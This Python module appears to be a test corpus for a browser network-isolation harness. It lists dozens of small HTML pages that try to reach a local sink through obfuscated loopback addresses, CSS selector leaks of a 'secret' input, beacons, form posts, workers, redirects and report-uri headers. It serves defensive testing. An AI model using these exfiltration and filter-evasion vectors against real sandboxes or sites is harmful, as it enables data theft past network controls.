"""Ways out of a page beyond those of escape.html, as data: each is a small document that asks for the sink by its name.

In a document `OUT` is the sink's address with the vector's name as its path, `PORT` the sink's port and `NAME` the
vector's. What does not arrive in this browser even without the wall is no vector, so it is not here: MathML links, SVG
`use`, `filter` and XSLT of other origins, portals, tracks made by script, icons and manifests (headless), background
fetch, payment handlers, NEL and the Reporting API without https, `file:` and `chrome:` addresses, names that only the
DNS could know.
"""

from collections.abc import Mapping
from dataclasses import dataclass, field


@dataclass(frozen=True, slots=True)
class Vector:
    name: str
    document: str
    status: str = "200 OK"
    headers: Mapping[str, str] = field(default_factory=dict)
    script: str = ""
    """What `/vectors/NAME.js` is: for workers that need an address."""
    is_top: bool = False
    """It needs a tab of its own; others share one, each in a frame."""


def scripted(name: str, code: str, *, script: str = "", is_top: bool = False) -> Vector:
    return Vector(name, f"<body><script>{code}</script>", script=script, is_top=is_top)


def image_at(name: str, address: str) -> Vector:
    return Vector(name, f'<img src="{address}/{name}" alt="">')


def styled(name: str, style: str) -> Vector:
    return Vector(name, f'<div style="width: 9px; height: 9px; {style}">x</div>')


def redirected(name: str, status: str, markup: str) -> Vector:
    return Vector(name, markup.replace("HOP", f"/vectors/hop?{status}&OUT"))


ADDRESSES = (
    image_at("hex-parts", "http://0x7f.0x0.0x0.0x1:PORT"),
    image_at("octal-number", "http://017700000001:PORT"),
    image_at("mixed-parts", "http://0x7f.1:PORT"),
    image_at("three-parts", "http://127.0.1:PORT"),
    image_at("padded-octal", "http://00177.0.0.01:PORT"),
    image_at("full-width", "http://１２７.０.０.１:PORT"),
    image_at("circled", "http://①②⑦.⓪.⓪.①:PORT"),
    image_at("ideographic-dots", "http://127。0。0。1:PORT"),
    image_at("percent-digits", "http://%31%32%37.0.0.1:PORT"),
    image_at("six-mapped-hex", "http://[::ffff:7f00:1]:PORT"),
    image_at("six-written-out", "http://[0:0:0:0:0:0:0:1]:PORT"),
    image_at("six-zero", "http://[::]:PORT"),
    image_at("backslashes", "http:\\\\127.0.0.1:PORT"),
    image_at("tab-in-host", "http://127.0.&#9;0.1:PORT"),
    image_at("no-scheme", "//127.0.0.1:PORT"),
    image_at("one-slash", "http:///127.0.0.1:PORT"),
    image_at("name-with-dot", "http://localhost.:PORT"),
    image_at("name-in-capitals", "http://LOCALHOST:PORT"),
    image_at("name-under-localhost", "http://evil.localhost:PORT"),
    image_at("deep-name", "http://a.b.mail.localhost:PORT"),
    image_at("own-name-with-dot", "http://mail.localhost.:PORT"),
    image_at("other-own-name", "http://pay.localhost:PORT"),
    image_at("soft-hyphen", "http://local&shy;host:PORT"),
    image_at("full-width-name", "http://ｌｏｃａｌｈｏｓｔ:PORT"),
    scripted("fetch-decimal", "fetch('http://2130706433:PORT/NAME', {mode: 'no-cors'})"),
    scripted("socket-zero", "new WebSocket('ws://0.0.0.0:PORT/NAME')"),
    scripted("socket-decimal", "new WebSocket('ws://2130706433:PORT/NAME')"),
    scripted("socket-own-name", "new WebSocket('ws://mail.localhost:PORT/NAME')"),
    scripted("socket-http-scheme", "new WebSocket('http://127.0.0.1:PORT/NAME')"),
    scripted("events-six", "new EventSource('http://[::1]:PORT/NAME')"),
    scripted("user-in-address", "location = 'http://mail.localhost@127.0.0.1:PORT/NAME'", is_top=True),
)

STYLES = (
    styled("mask", "mask-image: url(OUT)"),
    styled("border-image", "border: 1px solid; border-image: url(OUT) 1"),
    styled("list-image", "display: list-item; list-style-image: url(OUT)"),
    styled("shape-outside", "float: left; shape-outside: url(OUT)"),
    styled("content", "content: url(OUT)"),
    styled("custom-property", "--far: url(OUT); background: var(--far)"),
    styled("cross-fade", "background: -webkit-cross-fade(url(OUT), url(data:,), 50%)"),
    styled("box-reflect", "-webkit-box-reflect: below 0 url(OUT)"),
    Vector("pseudo-element", "<style>p::before {content: url(OUT)}</style><p>x</p>"),
    Vector("import-with-layer", "<style>@import url(OUT) layer(x) supports(display: grid) screen;</style>"),
    Vector("style-in-data", "<link rel=stylesheet href='data:text/css,@import url(OUT);'>"),
    Vector("attribute-selector", "<style>input[value^=s] {background: url(OUT)}</style><input value=secret>"),
    Vector("has-selector", "<style>body:has(input[value^=s]) {background: url(OUT)}</style><input value=secret>"),
    Vector(
        "animated-background", "<style>@keyframes k {to {background: url(OUT)}} p {animation: k 1s}</style><p>x</p>"
    ),
    Vector(
        "font-by-range",
        "<style>@font-face {font-family: f; src: url(OUT); unicode-range: U+41} p {font-family: f}</style><p>A</p>",
    ),
    scripted(
        "made-sheet",
        "const s = new CSSStyleSheet(); s.replaceSync('body {background: url(OUT)}');document.adoptedStyleSheets = [s]",
    ),
    scripted(
        "inserted-rule",
        "document.head.append(document.createElement('style'));"
        "document.styleSheets[0].insertRule('body {background: url(OUT)}')",
    ),
    Vector("alternate-sheet", "<link rel='alternate stylesheet' title=x href='OUT'>"),
    Vector("print-sheet", "<link rel=stylesheet media=print href='OUT'>"),
    Vector(
        "xml-sheet",
        "<?xml version='1.0'?><?xml-stylesheet type='text/css' href='OUT'?><a/>",
        headers={"Content-Type": "text/xml"},
    ),
)

MARKUP = (
    Vector("body-background", "<body background='OUT'>x"),
    Vector("table-background", "<table background='OUT'><tr><td>x</table>"),
    Vector("cell-background", "<table><tr><td background='OUT'>x</table>"),
    Vector("based", "<base href='http://127.0.0.1:PORT/'><img src='NAME' alt=''>"),
    Vector("frameset", "<frameset><frame src='OUT'></frameset>"),
    Vector("data-frame", "<iframe src=\"data:text/html,<img src='OUT'>\"></iframe>"),
    Vector("script-frame", "<iframe src=\"javascript:'<img src=OUT>'\"></iframe>"),
    Vector("frame-in-frame", "<iframe srcdoc=\"<iframe src='OUT'></iframe>\"></iframe>"),
    Vector("sandboxed-frame", "<iframe sandbox src='OUT'></iframe>"),
    Vector("object-as-image", "<object data='OUT' type='image/png'></object>"),
    Vector("embedded-svg", "<embed src='OUT' type='image/svg+xml'>"),
    Vector("video-source", "<video autoplay muted><source src='OUT' type='video/mp4'></video>"),
    Vector("audio-source", "<audio preload=auto><source src='OUT' type='audio/mpeg'></audio>"),
    Vector("widths", "<img srcset='OUT 100w' sizes='100px' alt=''>"),
    Vector("lazy-image", "<img loading=lazy src='OUT' alt='' width=9 height=9>"),
    Vector("open-shadow", "<div><template shadowrootmode=open><img src='OUT' alt=''></template></div>"),
    Vector("svg-old-href", "<svg><image xlink:href='OUT' width=9 height=9 /></svg>"),
    Vector(
        "svg-filter-image",
        "<svg width=9 height=9><filter id=f><feImage href='OUT'/></filter>"
        "<rect width=9 height=9 filter='url(#f)'/></svg>",
    ),
    Vector(
        "svg-html", "<svg width=9 height=9><foreignObject width=9 height=9><img src='OUT' alt=''></foreignObject></svg>"
    ),
    Vector("svg-script", "<svg><script href='OUT'></script></svg>"),
    Vector("svg-style", "<svg><style>@import url(OUT);</style></svg>"),
    Vector("svg-set", "<svg><image width=9 height=9><set attributeName=href to='OUT'/></image></svg>"),
    Vector(
        "svg-document",
        "<svg xmlns='http://www.w3.org/2000/svg'><image href='OUT' width='9' height='9'/></svg>",
        headers={"Content-Type": "image/svg+xml"},
    ),
    Vector(
        "xhtml-document",
        "<html xmlns='http://www.w3.org/1999/xhtml'><body><img src='OUT' alt=''/></body></html>",
        headers={"Content-Type": "application/xhtml+xml"},
    ),
    Vector("refresh-without-url", "<meta http-equiv=refresh content='0; OUT'>"),
    Vector("refresh-with-comma", "<meta http-equiv=refresh content='0, url=\"OUT\"'>"),
    Vector("preload-script", "<link rel=preload as=script href='OUT'>"),
    Vector("preload-style", "<link rel=preload as=style href='OUT'>"),
    Vector("preload-font", "<link rel=preload as=font crossorigin href='OUT'>"),
    Vector("preload-fetch", "<link rel=preload as=fetch crossorigin href='OUT'>"),
    Vector("preload-widths", "<link rel=preload as=image imagesrcset='OUT 100w' imagesizes=100px>"),
    Vector("prefetch-document", "<link rel=prefetch as=document href='OUT'>", is_top=True),
    Vector("module-script", "<script type=module src='OUT'></script>"),
    Vector("deferred-script", "<script defer src='OUT'></script>"),
    Vector(
        "import-map",
        '<script type=importmap>{"imports": {"far": "OUT"}}</script><script type=module>import \'far\'</script>',
    ),
    Vector("json-module", "<script type=module>import x from 'OUT' with {type: 'json'}</script>"),
    Vector("style-module", "<script type=module>import x from 'OUT' with {type: 'css'}</script>"),
    Vector(
        "speculation-prefetch",
        '<script type=speculationrules>{"prefetch": [{"urls": ["OUT"], "eagerness": "immediate"}]}</script>',
        is_top=True,
    ),
)

REQUESTS = (
    scripted("unattached-image", "new Image().src = 'OUT'"),
    scripted("unattached-audio", "new Audio('OUT').play().catch(() => {})"),
    scripted("written-script", "document.write(\"<script src='OUT'></scr\" + 'ipt>')"),
    scripted(
        "fragment",
        "document.body.append(document.createRange().createContextualFragment(\"<script src='OUT'></scr\" + 'ipt>'))",
    ),
    scripted(
        "error-handler",
        "document.body.innerHTML = \"<img src='data:,' onerror=\\\"fetch('OUT', {mode: 'no-cors'})\\\">\"",
    ),
    scripted("preflight", "fetch('OUT', {headers: {'x-secret': 's'}}).catch(() => {})"),
    scripted("head-request", "fetch('OUT', {mode: 'no-cors', method: 'HEAD'}).catch(() => {})"),
    scripted("waiting-request", "const r = new XMLHttpRequest(); r.open('GET', 'OUT', false); try {r.send()} catch {}"),
    scripted("cached", "caches.open('x').then((c) => c.add(new Request('OUT', {mode: 'no-cors'}))).catch(() => {})"),
    scripted(
        "beacon-of-frame",
        "const f = document.createElement('iframe'); document.body.append(f);"
        "f.contentWindow.addEventListener('pagehide', () => f.contentWindow.navigator.sendBeacon('OUT', 's'));"
        "setTimeout(() => f.remove(), 50)",
    ),
    scripted(
        "kept-alive-of-frame",
        "const f = document.createElement('iframe'); document.body.append(f);"
        "f.contentWindow.fetch('OUT', {mode: 'no-cors', method: 'POST', body: 's', keepalive: true}).catch(() => {});"
        "f.remove()",
    ),
    scripted("string-timer", "setTimeout(\"fetch('OUT', {mode: 'no-cors'})\", 10)"),
    scripted("made-function", "Function(\"fetch('OUT', {mode: 'no-cors'})\")()"),
    scripted(
        "posted-code",
        "addEventListener('message', (e) => eval(e.data));postMessage(\"fetch('OUT', {mode: 'no-cors'})\", '*')",
    ),
    scripted("assembly", "WebAssembly.compileStreaming(fetch('OUT', {mode: 'no-cors'})).catch(() => {})"),
    scripted("canvas-picture", "const i = new Image(); i.crossOrigin = 'anonymous'; i.src = 'OUT'"),
    scripted(
        "parsed-frame",
        "const d = new DOMParser().parseFromString(\"<img src='OUT'>\", 'text/html');"
        "document.body.append(document.adoptNode(d.body.firstChild))",
    ),
    scripted(
        "custom-element",
        "customElements.define('x-far', class extends HTMLElement {connectedCallback() {"
        "this.attachShadow({mode: 'closed'}).innerHTML = \"<img src='OUT'>\"}});"
        "document.body.append(document.createElement('x-far'))",
    ),
)

WORKERS = (
    scripted("data-worker", "new Worker(\"data:text/javascript,fetch('OUT', {mode: 'no-cors'})\")"),
    scripted("data-shared-worker", "new SharedWorker(\"data:text/javascript,fetch('OUT', {mode: 'no-cors'})\")"),
    scripted("worker-import", "new Worker('/vectors/NAME.js')", script="import('OUT').catch(() => {})"),
    scripted(
        "worker-in-worker",
        "new Worker('/vectors/NAME.js')",
        script="new Worker(\"data:text/javascript,fetch('OUT', {mode: 'no-cors'})\")",
    ),
    scripted(
        "worker-waits",
        "new Worker('/vectors/NAME.js')",
        script="const r = new XMLHttpRequest(); r.open('GET', 'OUT', false); r.send()",
    ),
    scripted("worker-events", "new Worker('/vectors/NAME.js')", script="new EventSource('OUT')"),
    scripted("worker-scripts", "new Worker('/vectors/NAME.js')", script="importScripts('OUT')"),
    scripted(
        "worker-cache",
        "new Worker('/vectors/NAME.js')",
        script="caches.open('x').then((c) => c.add(new Request('OUT', {mode: 'no-cors'})))",
    ),
    scripted(
        "worker-font", "new Worker('/vectors/NAME.js')", script="new FontFace('f', 'url(OUT)').load().catch(() => {})"
    ),
    scripted("module-shared-worker", "new SharedWorker('/vectors/NAME.js', {type: 'module'})", script="import 'OUT'"),
    scripted("shared-worker-scripts", "new SharedWorker('/vectors/NAME.js')", script="importScripts('OUT')"),
    scripted(
        "service-worker-scripts",
        "navigator.serviceWorker.register('/vectors/NAME.js', {scope: '/vectors/NAME/'}).catch(() => {})",
        script="importScripts('OUT')",
    ),
    scripted(
        "service-worker-install",
        "navigator.serviceWorker.register('/vectors/NAME.js', {scope: '/vectors/NAME/'}).catch(() => {})",
        script="oninstall = (e) => e.waitUntil(caches.open('x').then("
        "(c) => c.add(new Request('OUT', {mode: 'no-cors'}))))",
    ),
    scripted(
        "service-worker-socket",
        "navigator.serviceWorker.register('/vectors/NAME.js', {scope: '/vectors/NAME/'}).catch(() => {})",
        script="new WebSocket('ws://127.0.0.1:PORT/NAME')",
    ),
    scripted(
        "worklet-import",
        "new OfflineAudioContext(1, 1, 44100).audioWorklet.addModule('/vectors/NAME.js').catch(() => {})",
        script="import 'OUT'",
    ),
    scripted("paint-worklet", "CSS.paintWorklet.addModule('OUT').catch(() => {})"),
)

NAVIGATIONS = (
    scripted("assign", "location.assign('OUT')"),
    scripted("replace", "location.replace('OUT')"),
    scripted("port", "location.port = 'PORT'"),
    scripted("host", "location.host = '127.0.0.1:PORT'"),
    scripted("navigation", "navigation.navigate('OUT')"),
    scripted("based-location", "document.head.innerHTML = \"<base href='http://127.0.0.1:PORT/'>\"; location = 'NAME'"),
    scripted(
        "written-refresh",
        "document.open(); document.write(\"<meta http-equiv=refresh content='0; url=OUT'>\");document.close()",
    ),
    scripted(
        "frame-location",
        "const f = document.createElement('iframe'); document.body.append(f);f.contentWindow.location = 'OUT'",
    ),
    Vector("named-frame", "<iframe name=far></iframe><a id=a href='OUT' target=far>x</a><script>a.click()</script>"),
    Vector(
        "area",
        "<map name=m><area id=a href='OUT' shape=default></map><img usemap=#m src='data:,' alt=''>"
        "<script>a.click()</script>",
    ),
    Vector("area-ping", "<area id=a href='#x' ping='OUT'><script>a.click()</script>"),
    Vector(
        "svg-link",
        "<svg><a id=a href='OUT'><text>x</text></a></svg><script>a.dispatchEvent(new MouseEvent('click'))</script>",
    ),
    Vector("form-get", "<form id=f action='OUT'><input name=secret value=s></form><script>f.submit()</script>"),
    Vector(
        "form-multipart",
        "<form id=f method=post enctype='multipart/form-data' action='OUT'><input name=secret value=s>"
        "</form><script>f.submit()</script>",
    ),
    Vector(
        "form-plain",
        "<form id=f method=post enctype='text/plain' action='OUT'><input name=secret value=s></form>"
        "<script>f.submit()</script>",
    ),
    Vector(
        "formaction",
        "<form action='/second.html'><button id=b formaction='OUT' formmethod=post>x</button></form>"
        "<script>b.click()</script>",
    ),
    Vector(
        "button-elsewhere",
        "<form id=f action='/second.html'></form><button id=b form=f formaction='OUT'>x</button>"
        "<script>b.click()</script>",
    ),
    Vector(
        "image-button", "<form action='OUT'><input type=image id=b src='data:,' alt=x></form><script>b.click()</script>"
    ),
    Vector(
        "requested-submit", "<form id=f action='OUT'><button id=b>x</button></form><script>f.requestSubmit(b)</script>"
    ),
    scripted("opened-then-led", "const w = open('about:blank'); w.location = 'OUT'", is_top=True),
    scripted("opened-without-opener", "open('OUT', '_blank', 'noopener')", is_top=True),
    scripted("opened-small", "open('OUT', 'w', 'popup,width=200,height=200')", is_top=True),
    scripted("opened-blank-writes", "const w = open(); w.document.write(\"<img src='OUT'>\")", is_top=True),
    Vector(
        "form-in-window", "<form id=f method=post target=w action='OUT'></form><script>f.submit()</script>", is_top=True
    ),
    scripted("top-location", "top.location = 'OUT'", is_top=True),
    Vector("top-from-frame", "<iframe srcdoc=\"<script>top.location = 'OUT'</script>\"></iframe>", is_top=True),
    Vector(
        "link-to-top",
        "<iframe srcdoc=\"<a id=a target=_top href='OUT'>x</a><script>a.click()</script>\"></iframe>",
        is_top=True,
    ),
    scripted(
        "beacon-when-left",
        "addEventListener('pagehide', () => navigator.sendBeacon('OUT', 's'));"
        "setTimeout(() => location = '/second.html', 100)",
        is_top=True,
    ),
    scripted(
        "kept-alive-when-left",
        "addEventListener('pagehide', () => fetch('OUT', {mode: 'no-cors', method: 'POST',"
        "body: 's', keepalive: true}).catch(() => {})); setTimeout(() => location = '/second.html', 100)",
        is_top=True,
    ),
)

SERVED = (
    redirected("moved-image", "301 Moved Permanently", "<img src='HOP' alt=''>"),
    redirected("moved-frame", "303 See Other", "<iframe src='HOP'></iframe>"),
    redirected("moved-style", "308 Permanent Redirect", "<link rel=stylesheet href='HOP'>"),
    redirected("moved-script", "302 Found", "<script src='HOP'></script>"),
    redirected(
        "moved-font",
        "302 Found",
        "<style>@font-face {font-family: f; src: url('HOP')} p {font-family: f}</style><p>x</p>",
    ),
    redirected("moved-video", "302 Found", "<video src='HOP' autoplay muted></video>"),
    redirected("moved-object", "302 Found", "<object data='HOP'></object>"),
    redirected(
        "moved-form",
        "307 Temporary Redirect",
        "<form id=f method=post action='HOP'><input name=secret value=s></form><script>f.submit()</script>",
    ),
    redirected("moved-location", "302 Found", "<script>location = 'HOP'</script>"),
    redirected(
        "moved-keepalive",
        "308 Permanent Redirect",
        "<script>fetch('HOP', {mode: 'no-cors', method: 'POST', body: 's', keepalive: true}).catch(() => {})</script>",
    ),
    redirected("moved-module", "302 Found", "<script type=module>import 'HOP'</script>"),
    redirected("moved-preload", "302 Found", "<link rel=preload as=image href='HOP'>"),
    Vector("moved-document", "", status="302 Found", headers={"Location": "OUT"}),
    Vector("moved-to-decimal", "", status="302 Found", headers={"Location": "http://2130706433:PORT/NAME"}),
    Vector("moved-to-six", "", status="302 Found", headers={"Location": "http://[::1]:PORT/NAME"}),
    Vector("moved-to-own-port", "", status="302 Found", headers={"Location": "http://mail.localhost:PORT/NAME"}),
    Vector("moved-twice", "", status="302 Found", headers={"Location": "/vectors/hop?302 Found&OUT"}),
    Vector("refresh-header", "x", headers={"Refresh": "0; url=OUT"}),
    Vector("link-header", "x", headers={"Link": "<OUT>; rel=preload; as=image"}),
    Vector("link-header-module", "x", headers={"Link": "<OUT>; rel=modulepreload"}),
    Vector(
        "policy-report", "<img src='/x' alt=''>", headers={"Content-Security-Policy": "img-src 'none'; report-uri OUT"}
    ),
    Vector(
        "policy-report-only",
        "<img src='/x' alt=''>",
        headers={"Content-Security-Policy-Report-Only": "img-src 'none'; report-uri OUT"},
    ),
)

VECTORS = (*ADDRESSES, *STYLES, *MARKUP, *REQUESTS, *WORKERS, *NAVIGATIONS, *SERVED)
